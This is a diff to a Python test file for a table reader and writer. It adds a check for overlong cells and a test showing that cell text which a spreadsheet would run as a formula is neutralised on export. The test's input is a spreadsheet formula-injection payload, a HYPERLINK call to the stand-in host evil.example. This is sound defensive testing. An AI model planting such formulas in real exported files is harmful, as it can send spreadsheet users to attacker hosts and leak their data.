@@ -27,6 +27,7 @@ def test_reads_commas_in_utf8_with_bom_and_pads_short_rows() -> None:
         (b"\x00\x01PK", TableReason.ENCODING),
         (b"a;b\n1;2\n", TableReason.COLUMNS),
         (b"x" * 1_000_001, TableReason.TOO_LARGE),
+        (b"datum\n" + b"x" * 200_000 + b"\n", TableReason.CELL_TOO_LONG),
     ],
 )
 def test_unusable_files_are_refused_as_a_whole(content: bytes, reason: TableReason) -> None:
@@ -42,6 +43,14 @@ def test_written_table_opens_in_excel_and_reads_back() -> None:
         {"naam": "Ann; Claes", "punten": "2"},
         {"naam": "Élise", "punten": ""},
     ]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_written_text_that_a_spreadsheet_would_run_is_neutralised(start: str) -> None:
+    name = start + 'HYPERLINK("http://evil.example/?x","Eve")'
+    content = write_table(["naam", "saldo"], [[name, -2]])
+    [row] = read_table(content, required=["naam"])
+    assert row.values == {"naam": "'" + name, "saldo": "-2"}
 
 
 def test_calendar_file_has_one_event_per_item_in_utc_with_escaped_and_folded_text() -> None:
